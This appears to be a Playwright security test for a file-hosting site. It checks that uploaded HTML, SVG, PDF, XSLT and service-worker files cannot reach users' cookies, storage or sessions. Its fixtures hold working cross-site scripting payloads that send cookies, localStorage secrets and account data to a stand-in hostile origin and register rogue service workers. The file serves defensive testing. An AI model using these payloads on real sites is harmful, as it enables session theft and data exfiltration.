import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { browserMissing, launchBrowser, openPage } from "../../support/browser/browser.ts";
import { reservePort } from "../../support/network/free-ports.ts";
import type { TestServer } from "../../support/server.ts";
import { type Origin, startOrigin } from "../../support/services/origin-server.ts";
import { soon } from "../../support/soon.ts";
import { describeUnless } from "../../support/suite.ts";
import { accountMenu } from "../support/accounts/person.ts";
import { signedUrl, type Upload, type UploadForm, upload } from "../support/api/api.ts";
import { startPlainServer } from "../support/servers/plain-server.ts";
import { toPdf } from "../support/uploads/pdf.ts";

const NAME = "bytes.example";

/** Takes what it can reach of the site, sends it away, and stays. */
const takeAll = (evil: string): string =>
  [
    `fetch('${evil}/alive')`,
    `try{fetch('${evil}/cookie?'+document.cookie)}catch{}`,
    `try{fetch('${evil}/storage?'+localStorage.getItem('secret'))}catch{}`,
    `try{top.document.title='taken'}catch{}`,
    `try{fetch('/api/me',{credentials:'include'}).then((r)=>r.text()).then((t)=>fetch('${evil}/me?'+t))}catch{}`,
    "try{navigator.serviceWorker.register(location.pathname+location.search,{scope:'/'})}catch{}",
  ].join(";");

/** Files of a hostile user. */
const hostileFiles = (evil: string): Readonly<Record<string, UploadForm>> => {
  const script = takeAll(evil);
  return {
    HTML: { name: "a.html", type: "text/html", bytes: `<!doctype html><script>${script}</script><img src="${evil}/alive">` },
    SVG: {
      name: "a.svg",
      type: "image/svg+xml",
      bytes: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${script}"><script>${script.replaceAll("&", "&amp;")}</script><rect width="9" height="9"/></svg>`,
    },
    PDF: {
      name: "a.pdf",
      type: "application/pdf",
      bytes: toPdf({ text: "Hello", openScript: `app.alert('hi'); this.submitForm('${evil}/alive'); app.launchURL('${evil}/alive');` }),
    },
    "a service worker": { name: "sw.js", type: "text/javascript", bytes: `self.addEventListener('fetch',(e)=>{${script}})` },
    "XML with XSLT": {
      name: "a.xml",
      type: "text/xml",
      bytes: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><script>${script.replaceAll("&", "&amp;")}</script></html></xsl:template></xsl:stylesheet>`,
    },
    "a page that says it is an image": { name: "a.png", type: "image/png", bytes: `<!doctype html><script>${script}</script>` },
  };
};

/** addresses, "The content host"; previews, "Documents". */
for (const hasContentHost of [false, true])
  describeUnless(browserMissing, `content of users ${hasContentHost ? "on a host for files" : "on the host of the pages"}`, () => {
    let browser: Browser;
    let server: TestServer;
    let site: string;
    let evil: Origin;
    /** What the hostile site's page embeds. */
    let embedded: readonly string[] = [];
    before(async () => {
      const port = await reservePort();
      site = `http://localhost:${port}`;
      evil = await startOrigin({
        "/frames": (_, response) => response.setHeader("Content-Type", "text/html").end(framesOf(embedded)),
        "/control": (_, response) => response.setHeader("Content-Type", "text/html").end(hostileFiles(evil.url).HTML?.bytes),
        "/favicon.ico": (_, response) => response.writeHead(204).end(),
      });
      server = await startPlainServer({
        FILEHOST_LISTEN: `127.0.0.1:${port}`,
        FILEHOST_URL: site,
        FILEHOST_LIMITS: JSON.stringify({ rates: { signUps: 1000 } }),
        ...(hasContentHost && { FILEHOST_CONTENT_URL: `http://${NAME}:${port}` }),
      });
      browser = await launchBrowser({ hosts: [NAME] });
    });
    after(async () => {
      await browser?.close();
      await server?.[Symbol.asyncDispose]();
      await evil?.[Symbol.asyncDispose]();
    });

    /** The paths that scripts of files have requested from the hostile site. */
    const reports = () => evil.requests.map(({ path }) => path).filter((path) => !["/frames", "/control", "/favicon.ico"].includes(path));

    /** Signs somebody in, who has a secret in the browser's storage. */
    async function signIn(page: Page): Promise<void> {
      await page.goto(`${site}/signup`);
      await page.getByLabel("Your name").fill("Ada");
      await page.getByLabel("Email address").fill(`${crypto.randomUUID()}@example.org`);
      await page.getByLabel("Password").fill("correct horse battery");
      await page.getByRole("button", { name: "Create an account" }).click();
      await accountMenu(page, "Ada").waitFor();
      await page.evaluate("localStorage.setItem('secret', 'storage'); document.cookie = 'readable=1'");
    }

    /** The URLs at which a browser gets a file's bytes or what is made of them. */
    async function urlsOf(page: Page, share: Upload): Promise<readonly string[]> {
      await page.goto(site + share.sharePath);
      const shown = page.locator("#preview img, #preview iframe");
      const preview = (await shown.count()) === 0 ? null : await shown.first().getAttribute("src");
      const urls = [await signedUrl(server, share.id), ...(preview === null ? [] : [preview])];
      return preview === null ? urls : [...urls, `${preview.replace("?", `/${encodeURIComponent(share.name)}?`)}`];
    }

    test("is tested by a script that reports where it may run", async () => {
      await using opened = await openPage(browser);
      await opened.page.goto(`${evil.url}/control`, { waitUntil: "networkidle" });
      assert.ok(reports().includes("/alive"));
      await soon(async () => assert.equal(await opened.page.title(), "taken"));
    });

    for (const name of Object.keys(hostileFiles("")))
      test(`reaches no cookie, storage, session or page: ${name}`, async () => {
        const form = hostileFiles(evil.url)[name] ?? {};
        const share = await upload(server, form);
        const before = reports().length;
        await using opened = await openPage(browser, { serviceWorkers: "allow" });
        const { page } = opened;
        await signIn(page);
        const watched = watch(page.context(), new URL(site).host);
        const urls = await urlsOf(page, share);
        assert.ok(urls.every((url) => new URL(url).hostname === (hasContentHost ? NAME : "localhost")));
        // Opened alone, and as every kind of element of a page that wants to run it.
        for (const url of urls) await page.goto(url).catch(() => undefined);
        embedded = urls;
        await page.goto(`${evil.url}/frames`);
        // In a page of the site, as a script that was written into it would do.
        await page.goto(site + share.sharePath);
        for (const url of urls)
          await page.evaluate(
            `navigator.serviceWorker.register(${JSON.stringify(url)}, { scope: "/" }).then(() => 0, () => 0).then(() => import(${JSON.stringify(url)})).then(() => 0, () => 0)`,
          );
        await page.goto(`${site}/`);
        assert.deepEqual(reports().slice(before), []);
        await soon(async () => assert.notEqual(await page.title(), "taken"));
        // The front page registers the site's own worker; before it is ready, its registration may have no worker at all.
        const workers = await page.evaluate(
          "navigator.serviceWorker.ready.then(() => navigator.serviceWorker.getRegistrations()).then((all) => all.map(({ active }) => active?.scriptURL))",
        );
        assert.deepEqual(workers, [`${site}/service-worker.js`]);
        if (!hasContentHost) return;
        assert.deepEqual(watched.cookiesSentTo(NAME), []);
        assert.deepEqual((await page.context().cookies(`http://${NAME}`)).length, 0);
      });
  });

function framesOf(urls: readonly string[]): string {
  const elements = urls.map((url) => {
    const source = url.replaceAll("&", "&amp;");
    return `<iframe src="${source}"></iframe><object data="${source}"></object><embed src="${source}"><img src="${source}"><video src="${source}"></video><link rel="stylesheet" href="${source}">`;
  });
  return `<!doctype html>${elements.join("")}`;
}

/** Watches which hosts get cookies besides the site's. */
function watch(context: BrowserContext, site: string): { cookiesSentTo(name: string): string[] } {
  const sent: string[] = [];
  context.on("request", async (request) => {
    const { host } = new URL(request.url());
    const headers = await request.allHeaders().catch(() => ({}) as Record<string, string>);
    if (host !== site && headers.cookie !== undefined) sent.push(host);
  });
  return { cookiesSentTo: (name) => sent.filter((host) => host.startsWith(name)) };
}
